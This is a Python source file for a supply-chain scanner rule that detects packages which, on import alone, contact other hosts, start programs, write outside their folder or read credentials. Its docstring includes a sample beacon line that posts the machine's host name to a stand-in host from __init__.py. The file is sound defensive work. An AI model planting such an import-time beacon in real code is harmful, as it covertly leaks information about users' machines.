"""Importing the package already acts: it sends, starts, writes or reads what is not its own.

**What.** A call at the level of a module, or in a function that the module itself calls (also one it hands to
`setTimeout`, `.then` or a thread), that talks to another machine, starts a program, writes a file of the home
folder or of the system, or reads a credential of another program. It runs when anything imports the module,
before a tool is called and whether or not one ever is. What tells who runs the package (host name, user,
folder, environment) and is sent so to a host that the code fixes is worse: that is a beacon.

**Why.** An import is expected to define things. Code that acts at import needs no call, so no look at the
tools finds it, and every program that only loads the package runs it: tests, documentation builds, scanners.

**Example.** `requests.post("https://seen.invalid", json={"host": socket.gethostname()})` in `__init__.py`

**Reported with less weight.** A beacon of which the package's page tells, or to a host that bears its name.

**Left alone.** What stands under `if __name__ == "__main__"` or in a file that is itself the program; routes,
tools and handlers that are only registered; questions about the machine (`git rev-parse`, `uname`); the
package's own folder in the home folder; reading `.env`; a key that is called as the host to which it
goes; what is only done where a setting asks for it (low).
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator
from functools import cache
from typing import TYPE_CHECKING

import douane_signatures
from douane.detectors import _sources as sources
from douane.detectors._at_import import DATA, LARGEST, SMALL, Happening, happenings
from douane.detectors._catalogue import Catalogue, catalogue, encoded
from douane.detectors._command_lines import command_lines
from douane.detectors._credentials import CredentialReads
from douane.detectors._effects import DATA as EFFECTS
from douane.detectors._flow import HOLE, State, program_of
from douane.detectors._known_credentials import may_read
from douane.detectors._places import evidence_at, is_aside
from douane.detectors._purposes import is_named, own_names, page
from douane.detectors._scripts import hooks, manifest
from douane.model import Confidence, Severity
from douane.rules import Evidence, Rule

if TYPE_CHECKING:
    from douane.detectors._flow import Program
    from douane.syntax import Codebase

_BEACON = "sends who and where it runs"
_MOST_PARSED = 512 * 1024  # bytes of source of one package that are parsed for this
_PROGRAMS = re.compile(r"(^|/)(__main__|setup|conftest|manage|noxfile|tasks|hatch_build)\.py$")
_DOOR = re.compile(r"(^|/)(__init__\.py|index\.[cm]?[jt]s)$")
_BROWSER = re.compile(
    r"(^|/)(vite|assets|static|public|www|webview|webui|client|browser|umd|cdn)/|\.min\.js$"
)
_ANY = frozenset({"src", "lib", "dist", "build", "out", "mcp", "server", "index", "main", "case"})
_LOCAL = re.compile(r"^(?:[a-z]+:)?//(localhost|127\.|\[::1\]|0\.0\.0\.0)")
# A statement at the margin, or below an if, try, with or loop there, that calls something.
_MARGIN = re.compile(
    rb"^(?!def |class |async |import |from |@|#)[A-Za-z_][^\n]*\(|^(?:if|try|with|for|while)\b", re.MULTILINE
)
_NODE = frozenset({".js", ".cjs", ".mjs", ".ts", ".cts", ".mts", ".tsx", ".jsx"})


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield what importing the files of the package does."""
    program = program_of(codebase)
    left = _MOST_PARSED
    reads = CredentialReads(program) if may_read(program) else None
    programs = _programs(codebase)
    doors = _doors(codebase)
    for path in _acting(program, _names(reads)):
        if path in programs or is_aside(path) or _PROGRAMS.search(path) or _BROWSER.search(path):
            continue
        source = program.source(path)
        if source.startswith(b"#!") or (program.size > SMALL and len(source) > LARGEST):
            continue
        if program.size > SMALL and path.endswith((".py", ".pyw")) and not _MARGIN.search(source):
            continue
        left -= len(source) if program.size > SMALL else 0
        if left < 0:
            return
        yield from _of_file(program, path, reads, codebase, doors)


def _names(reads: CredentialReads | None) -> frozenset[str]:
    """Return the names of all calls that are looked for."""
    return _acts().names | (reads.names if reads is not None else frozenset())


def _acting(program: Program, names: frozenset[str]) -> tuple[str, ...]:
    """Return the files that can send, start, write or read at all."""
    network = douane_signatures.table(sources.NETWORK)
    starters = douane_signatures.table(sources.EXECUTION)["starters"]["modules"]
    modules = frozenset((*network["modules"], *starters, "fs", "fs/promises", "fs-extra", "pathlib"))
    found = {*program.importing(modules), *program.mentioning(encoded((*network["words"], "open")))}
    words = encoded(names)
    acting = {path for path in found if not words.isdisjoint(program.words(path))}
    if not acting:
        return ()
    # What is called at import may stand in another file: in a large package only its doors are looked at.
    every = program.size <= SMALL
    return tuple(path for path in program.paths if every or path in acting or _DOOR.search(path))


def _programs(codebase: Codebase) -> frozenset[str]:
    """Return the files of an npm package that are programs by themselves, and are started, not imported."""
    own = manifest(codebase)
    named: list[str] = []
    listed = own.get("bin")
    named += [str(each) for each in listed.values()] if isinstance(listed, dict) else []
    named += [listed] if isinstance(listed, str) else []
    scripts = own.get("scripts")
    commands = [*(scripts.values() if isinstance(scripts, dict) else ()), *hooks(codebase).values()]
    for command in commands:
        named += [word for word in str(command).split() if posixpath.splitext(word)[1] in _NODE]
    main = own.get("main")
    if not named and isinstance(main, str):
        named.append(main)  # the server of a package that names no program
    found = {posixpath.normpath(each.strip("\"'")) for each in named}
    built = {re.sub(r"^(dist|build|lib|out)/", "src/", re.sub(r"\.[cm]?js$", ".ts", path)) for path in found}
    return frozenset(found | built)


def _doors(codebase: Codebase) -> frozenset[str]:
    """Return the files by which a package says it is imported: ``main``, ``exports``, entry points."""
    own = manifest(codebase)
    texts: list[str] = []
    pending: list[object] = [own.get("main"), own.get("module"), own.get("exports")]
    while pending and len(texts) < 200:
        each = pending.pop()
        if isinstance(each, str):
            texts.append(posixpath.normpath(each))
        elif isinstance(each, dict):
            pending += list(each.values())
    named = b" ".join(
        codebase.tree[path][:100_000]
        for path in codebase.tree
        if path == "pyproject.toml" or path.endswith(".dist-info/entry_points.txt")
    ).decode("utf-8", "replace")
    for match in re.finditer(r"=\s*[\"']?([\w.]{1,200}):\w", named):
        base = match[1].replace(".", "/")
        texts += [f"{base}.py", f"src/{base}.py", f"{base}/__init__.py", f"src/{base}/__init__.py"]
    return frozenset(texts)


def _of_file(
    program: Program, path: str, reads: CredentialReads | None, codebase: Codebase, doors: frozenset[str]
) -> Iterator[Evidence]:
    index = program.index(path)
    if index is None:
        return
    names = _names(reads)
    told: set[tuple[str, int]] = set()
    for happening in happenings(program, index, names):
        found = _judged(program, happening, reads, codebase)
        if found is None:
            continue
        place = (happening.state.index.path, happening.state.line)
        if place in told:
            continue
        told.add(place)
        is_grave = found[0] is Severity.HIGH or found[1].startswith(_BEACON)
        if is_grave or _is_imported(program, path, doors):
            yield _evidence(happening, path, *found)


def _is_imported(program: Program, path: str, doors: frozenset[str]) -> bool:
    """Whether something imports the file at *path*, as far as names tell; else it is a script of its own."""
    folder, _, name = path.rpartition("/")
    stem = name.split(".")[0]
    if stem == "__init__" or (stem == "index" and not folder) or path in doors:
        return True
    word = (folder.rpartition("/")[2] if stem == "index" else stem).encode("utf-8", "replace")
    importing = re.compile(
        rb"\b(?:from|import)\b[^\n]{0,300}\b%(it)s\b|['\"`]\.{1,2}/(?:[^'\"`\n]{0,300}/)?%(it)s(?:[./'\"`])"
        % {b"it": re.escape(word)}
    )
    others = (each for each in program.paths if each != path and word in program.words(each))
    return any(program.holds(each, importing) for each in others)


def _evidence(happening: Happening, path: str, severity: Severity, what: str) -> Evidence:
    state = happening.state
    through = "" if state.index.path == path else f", by way of {path}"
    if happening.asked:
        return evidence_at(
            state,
            why=f"importing the module {what}{through}, where a setting says so",
            severity=Severity.MEDIUM if severity is Severity.HIGH else Severity.LOW,
            confidence=Confidence.LOW,
        )
    return evidence_at(state, why=f"importing the module {what}{through}", severity=severity)


def _judged(
    program: Program, happening: Happening, reads: CredentialReads | None, codebase: Codebase
) -> tuple[Severity, str] | None:
    state = happening.state
    entry = _acts().is_call(program, state)
    if entry is not None and entry.section == "send":
        return _sends(program, state, codebase)
    if entry is not None and entry.section == "start":
        return _starts(program, state)
    if entry is not None:
        return _writes(program, state, entry.facts["target"], codebase.package.name)
    found = reads.at(state) if reads is not None else None
    if found is not None and found.kind in ("file", "command"):
        usual = re.search(_data("usual_files"), found.what.rstrip(")").rpartition("(")[2])
        return None if usual else (Severity.MEDIUM, f"reads {found.what}")
    return None


def _sends(program: Program, state: State, codebase: Codebase) -> tuple[Severity, str] | None:
    addresses = sources.address(program, state)
    if any(_LOCAL.match(text) for text in addresses):
        return None
    host = re.match(r"(?:\w+:)?//([^/:?#\s]{1,255})", next(iter(addresses), ""))
    where = f" to {host[1].replace(HOLE, '…')}" if host else " to another machine"
    tracer = program.tracer(lambda each: _identity(program, each, host[1] if host else ""))
    traces = [trace for node in program.nodes(state) for trace in tracer.trace(state.at(node))]
    if traces:
        is_grave = host is not None and not _is_told(codebase, host[1])
        what = f"{_BEACON} ({traces[0].what}){where}"
        return (Severity.HIGH if is_grave else Severity.MEDIUM), what
    return Severity.MEDIUM, f"talks{where}"


def _is_told(codebase: Codebase, host: str) -> bool:
    """Whether the package's page tells of *host*, or that usage is counted, or the host bears its name."""
    said, told = page(codebase), douane_signatures.table("code/copies.toml")["foreign"]["told"]
    named = is_named(host, " ".join(sorted(own_names(codebase))))
    return named or host.lower() in said or bool(re.search(told, said))


def _identity(program: Program, state: State, host: str) -> str | None:
    """Name what *state* tells *host* of the machine and its user, None for anything else.

    The key that is called as the host is, as ``ACME_TOKEN`` for ``api.acme.example``, is what it asks for.
    """
    call = program.call(state)
    if call is not None:
        names = program.callee(state) if call.name in _data("identity_names") else ()
    elif state.node.type in (
        "member_expression",
        "attribute",
        "identifier",
        "subscript",
        "subscript_expression",
    ):
        names = program.origins(state) if re.search(r"env|__dirname|__filename", state.text[:80]) else ()
    else:
        return None
    told = (name for name in names if re.fullmatch(_data("identity"), name))
    return next((name for name in told if not _is_own_key(name, host)), None)


def _is_own_key(name: str, host: str) -> bool:
    key = re.search(r"\.([A-Za-z]{3,40})_(?:\w{1,40}_)?(?:TOKEN|KEY|SECRET)$", name)
    return key is not None and key[1].lower() in re.split(r"[.-]", host.lower())


def _starts(program: Program, state: State) -> tuple[Severity, str] | None:
    lines = command_lines(program, state)
    line = next(iter(lines), HOLE)
    word = posixpath.basename(line.split(" ")[0].strip("\"'")) if line.strip() else HOLE
    if re.match(r"\S+ -p ", line):  # Node asked for a value
        return None
    if word.removesuffix(".exe") in _data("asking") and not re.search(r"[|;&`$<>]", line):
        return None
    behind = re.search(douane_signatures.table("code/install.toml")["stays_behind"], state.text[:4_000])
    shown = line[:60].replace(HOLE, "…")
    return (Severity.HIGH if behind else Severity.MEDIUM), f"starts a program (`{shown}`)"


def _writes(program: Program, state: State, target: object, own: str) -> tuple[Severity, str] | None:
    made = program.call(state)
    where = program.argument(state, target, "path", "file") if isinstance(target, int) else None
    if target == "receiver" and made is not None and made.receiver is not None:
        where = state.at(made.receiver)
    if made is None or where is None or (made.name == "open" and not _is_written(program, state, target)):
        return None
    outside = re.compile(douane_signatures.table("code/install.toml")["outside"])
    named = f"{own} {state.index.path.removeprefix('src/').partition('/')[0]}".lower()
    words = [word for word in re.split(r"[^a-z0-9]+", named) if len(word) > 2 and word not in _ANY]
    for text in program.shapes(where):
        if outside.match(text) and not re.search(_data("usual_files"), text):
            if any(word in text.lower() for word in words):
                continue  # a folder of its own name
            return Severity.MEDIUM, f"writes outside the package ({text.replace(HOLE, '…')[:80]})"
    return None


def _is_written(program: Program, state: State, target: object) -> bool:
    mode = program.argument(state, 0 if target == "receiver" else 1, "mode")
    return mode is not None and any(set(text) & set("wax+") for text in program.shapes(mode))


def _data(name: str) -> str:
    found: str = douane_signatures.table(DATA)[name]
    return found


@cache
def _acts() -> Catalogue:
    sends, starts = catalogue(sources.NETWORK, "send"), catalogue(sources.EXECUTION, "start")
    writes = catalogue(EFFECTS, "write")
    every = (sends, starts, writes)
    return Catalogue(
        tuple(entry for each in every for entry in each.entries),
        frozenset(name for each in every for name in each.names),
        frozenset(word for each in every for word in each.words),
    )


RULE = Rule(
    id="import-side-effect",
    summary="importing the package already acts on other machines, programs or files",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    row="supply.code",
    remedy="Ask why this happens before anything is called; import the package nowhere but in a sandbox.",
    taxonomy=("MCP04:2025", "SAFE-T1002", "AML.T0011.001"),
    code=look,
)
